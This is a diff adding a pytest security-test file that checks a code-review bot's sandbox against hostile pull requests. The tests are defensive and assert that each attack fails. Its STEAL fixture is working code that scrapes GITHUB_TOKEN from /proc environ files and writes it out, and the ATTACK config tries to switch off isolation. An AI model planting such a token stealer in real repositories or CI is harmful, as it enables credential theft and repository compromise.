@@ -1,0 +1,149 @@
+"""A pull request is an attacker: each attack of issue 11 performed against a real `codegen`.
+
+The pull request's code runs in a real subprocess of a real `codegen` process that holds a
+token in its environment, the way the Action's step does. Each attack must fail.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from refactor.sandbox import detect_isolation
+from tests.bot.tests_task_repo import BASE, BASE_TEST, PYPROJECT, THREE_NEW, TOKEN
+
+BWRAP = detect_isolation()
+needs_bwrap = pytest.mark.skipif(not BWRAP.isolated, reason=BWRAP.detail)
+
+#: A conftest that reads GITHUB_TOKEN from every process it can see (its parent first) and
+#: writes it outside the workspace.
+STEAL = """\
+import os
+
+def _steal(out):
+    pids = [str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]
+    for pid in pids:
+        try:
+            data = open(f"/proc/{pid}/environ", "rb").read()
+        except OSError:
+            continue
+        for item in data.split(b"\\0"):
+            if item.startswith(b"GITHUB_TOKEN="):
+                with open(out, "wb") as sink:
+                    sink.write(item)
+                return
+
+try:
+    _steal(%r)
+except OSError:
+    pass
+"""
+
+
+#: The shop's pyproject.toml without codegen's table: the settings live in `.codegen.toml`.
+PLAIN = PYPROJECT.split("[tool.codegen")[0]
+#: What the pull request's `.codegen.toml` asks for.
+ATTACK = 'tasks = ["tests"]\n\n[tests]\nruns = 2\nisolation = "none"\n'
+
+
+def codegen(*args: str, token: str = TOKEN) -> subprocess.CompletedProcess[str]:
+    """Run the real `codegen` in a subprocess whose environment holds `token`."""
+    env = {**os.environ, "GITHUB_TOKEN": token}
+    return subprocess.run(
+        [sys.executable, "-m", "bot.cli", *args],
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=900,
+        check=False,
+    )
+
+
+def attack_repo(make_repo, stolen: Path, base_config: dict[str, str]):
+    """A base the maintainers merged, and a pull request that turns its own sandbox off."""
+    repo = make_repo()
+    base = repo.commit(
+        {
+            "pyproject.toml": PLAIN,
+            "shop/__init__.py": "",
+            "shop/money.py": BASE,
+            "tests/test_money.py": BASE_TEST,
+            **base_config,
+        },
+        "base",
+    )
+    repo.commit(
+        {
+            "shop/money.py": BASE + THREE_NEW,
+            ".codegen.toml": ATTACK,
+            "conftest.py": STEAL % str(stolen),
+        },
+        "a pull request that switches off its own sandbox",
+    )
+    return repo, base
+
+
+@pytest.mark.parametrize("base_tasks", ["none", "tests"])
+def test_a_pull_request_cannot_switch_off_its_own_sandbox(
+    make_repo, tmp_path: Path, base_tasks: str
+) -> None:
+    """Attack 1: `.codegen.toml` with `isolation = "none"` and a token-stealing conftest."""
+    stolen = tmp_path / "stolen-token"
+    base_config = {".codegen.toml": 'tasks = ["tests"]\n[tests]\nruns = 2\n'}
+    if base_tasks == "none":
+        base_config = {}
+    if base_tasks == "tests" and not BWRAP.isolated:
+        pytest.skip(BWRAP.detail)
+    repo, base = attack_repo(make_repo, stolen, base_config)
+    done = codegen("review", "--repo", str(repo.path), "--base", base, "--format", "json")
+    assert done.returncode == 0, done.stderr
+    report = json.loads(done.stdout)
+    assert not stolen.exists(), "the pull request's conftest stole the token"
+    assert TOKEN not in done.stdout + done.stderr
+    notes = "\n".join(report["notes"])
+    assert "this pull request changes codegen's configuration; the changes apply once merged" in (
+        notes
+    )
+    if base_tasks == "none":  # the base's settings: docs only, so no code of the PR ran
+        assert report["tasks"] == ["docs"]
+    else:  # the base asks for tests: they ran, under bubblewrap
+        assert report["tasks"] == ["tests"] and "tests ran under" in notes
+        assert any(p["task"] == "tests" for p in report["proposals"])
+
+
+@needs_bwrap
+def test_isolation_none_in_the_base_is_ignored_with_a_note(make_repo, tmp_path: Path) -> None:
+    """Even the maintainers' file cannot lower isolation: only the runner's operator can."""
+    stolen = tmp_path / "stolen-token"
+    config = ATTACK.replace("runs = 2", "runs = 3")  # the PR changes it, too
+    repo, base = attack_repo(make_repo, stolen, {".codegen.toml": config})
+    done = codegen("review", "--repo", str(repo.path), "--base", base, "--format", "json")
+    assert done.returncode == 0, done.stderr
+    notes = "\n".join(json.loads(done.stdout)["notes"])
+    assert '`tests.isolation = "none"` is ignored' in notes and "tests ran under" in notes
+    assert not stolen.exists()
+
+
+def test_the_operator_cannot_lower_isolation_while_holding_a_token(tmp_path: Path) -> None:
+    """`codegen action` (mode both) with a token refuses `--isolation none`, in one line."""
+    event = tmp_path / "event.json"
+    event.write_text(json.dumps({"action": "opened"}), encoding="utf-8")
+    env = {"GITHUB_EVENT_NAME": "pull_request", "GITHUB_EVENT_PATH": str(event)}
+    done = subprocess.run(
+        [sys.executable, "-m", "bot.cli", "action", "--isolation", "none", "--repo", str(tmp_path)],
+        capture_output=True,
+        text=True,
+        env={**os.environ, **env, "GITHUB_TOKEN": TOKEN, "GITHUB_REPOSITORY": "octo/shop"},
+        timeout=300,
+        check=False,
+    )
+    assert done.returncode == 2, done.stderr
+    assert done.stderr.count("\n") == 1 and "--isolation none while this process holds" in (
+        done.stderr
+    )
+    assert TOKEN not in done.stderr
